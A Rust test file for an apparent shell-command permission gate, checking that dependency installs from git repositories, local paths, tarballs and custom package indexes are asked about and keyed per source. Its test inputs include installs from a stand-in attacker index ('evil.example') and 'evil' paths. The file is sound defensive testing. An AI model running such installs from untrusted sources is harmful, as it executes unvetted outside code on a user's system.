//! A dependency added from a source that is not a registry's package: from a git repository
//! (a URL, a forge's shorthand) it always asks; from a path, an archive or another index it asks
//! under what it fetches: a yes to one source never covers another, nor does a yes to a
//! registry's package or to a plain install cover any of them.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    missing_docs
)]

mod common;

use airlock_shell::{Level, judge};
use common::{ENV, PROJECT, always_ask};

const REGISTRY: Option<&str> = Some("registry add dependency");

/// Each script asks once, under a key of its own that names `source`.
fn keyed_by_source(cases: &[(&str, &str)]) {
    let bad: Vec<String> = cases
        .iter()
        .filter_map(|(s, source)| {
            let v = judge(s, &ENV);
            let key = v.grant.clone().unwrap_or_default();
            (v.level != Level::AskOnce || !key.contains(source) || v.grant.as_deref() == REGISTRY)
                .then(|| format!("{s:?}: {:?} `{}` grant {:?}", v.level, v.row, v.grant))
        })
        .collect();
    assert!(
        bad.is_empty(),
        "should ask once under its source:\n{}",
        bad.join("\n")
    );
}

#[test]
fn an_install_from_a_path_or_archive_is_keyed_by_its_source_and_from_git_always_asks() {
    keyed_by_source(&[
        ("npm install ../local-pkg", "../local-pkg"),
        ("npm install ./vendor/x.tgz", "./vendor/x.tgz"),
        ("pnpm add file:../x", "file:../x"),
        ("cargo add --path ../x", "../x"),
    ]);
    // Code from a git repository (a URL, a forge's shorthand, `user/repo`) runs a stranger's
    // code: never a grant of its own, always asked.
    for s in [
        "npm install git+https://github.com/a/x.git",
        "npm i -D git+https://github.com/a/x.git",
        "npm install --save git+ssh://git@github.com/a/x.git",
        "npm install github:a/x",
        "npm install a/x",
        "npm install a/x#v2",
        "npm add gitlab:a/x",
        "pnpm add github:a/x",
        "pnpm add -D a/x",
        "yarn add a/x",
        "yarn add a/x#main",
        "yarn add git+https://gitlab.com/a/x.git",
        "bun add github:a/x",
        "pip install git+https://github.com/a/x",
        "uv add git+https://github.com/a/x",
        "poetry add git+https://github.com/a/x",
        "cargo add --git https://github.com/a/x x",
        "cargo add --git=https://github.com/a/x x",
    ] {
        let v = judge(s, &ENV);
        assert_eq!(v.level, Level::AlwaysAsk, "{s}: {}", v.row);
    }
}

#[test]
fn one_source_never_covers_another() {
    for (one, other) in [
        ("npm install ../a", "npm install ../b"),
        ("pnpm add file:../x", "pnpm add file:../evil"),
        ("cargo add --path ../x", "cargo add --path /tmp/evil"),
        (
            "pip install --index-url https://pypi.acme.dev/simple x",
            "pip install --index-url https://evil.example/simple x",
        ),
        (
            "pip install x -i https://pypi.acme.dev/simple",
            "pip install y -i https://pypi.acme.dev/simple",
        ),
    ] {
        let (a, b) = (judge(one, &ENV), judge(other, &ENV));
        assert_eq!(a.level, Level::AskOnce, "{one}: {}", a.row);
        assert!(b.level >= Level::AskOnce, "{other}: {}", b.row);
        assert!(
            a.grant.is_some() && a.grant != b.grant,
            "{one} {:?} covers {other} {:?}",
            a.grant,
            b.grant
        );
    }
    // Neither a plain install nor a registry package's add covers a source of its own.
    for plain in [
        "npm install",
        "npm ci",
        "pnpm install",
        "yarn",
        "npm install express",
    ] {
        let p = judge(plain, &ENV).grant;
        for s in [
            "npm install git+https://github.com/a/x.git",
            "npm install a/x",
            "pnpm add github:a/x",
            "yarn add a/x",
        ] {
            let v = judge(s, &ENV);
            assert_ne!(p, v.grant, "{plain} covers {s}");
            assert_ne!(v.grant.as_deref(), PROJECT, "{s}");
            assert_ne!(v.grant.as_deref(), Some("npm install"), "{s}");
        }
    }
}

#[test]
fn a_downloaded_package_file_or_a_global_install_always_asks() {
    always_ask(&[
        "npm install https://example.com/x.tgz",
        "yarn add https://example.com/x.tgz",
        "npm install -g git+https://github.com/a/x.git",
        "pnpm add -g a/x",
    ]);
}

#[test]
fn registry_packages_scopes_and_workspace_filters_stay_the_registry_family() {
    for s in [
        "npm install express",
        "npm i -D @types/node",
        "npm install --save-dev @scope/x",
        "pnpm add zod",
        "pnpm -F apps/web add zod",
        "pnpm --filter apps/web add -D vitest",
        "yarn add @tanstack/react-query",
        "bun add hono",
        "npm install npm:chalk",
        "composer require vendor/pkg",
        "cargo add serde -F derive",
    ] {
        let v = judge(s, &ENV);
        assert_eq!(
            (v.level, v.grant.as_deref()),
            (Level::AskOnce, REGISTRY),
            "{s}: {}",
            v.row
        );
    }
}
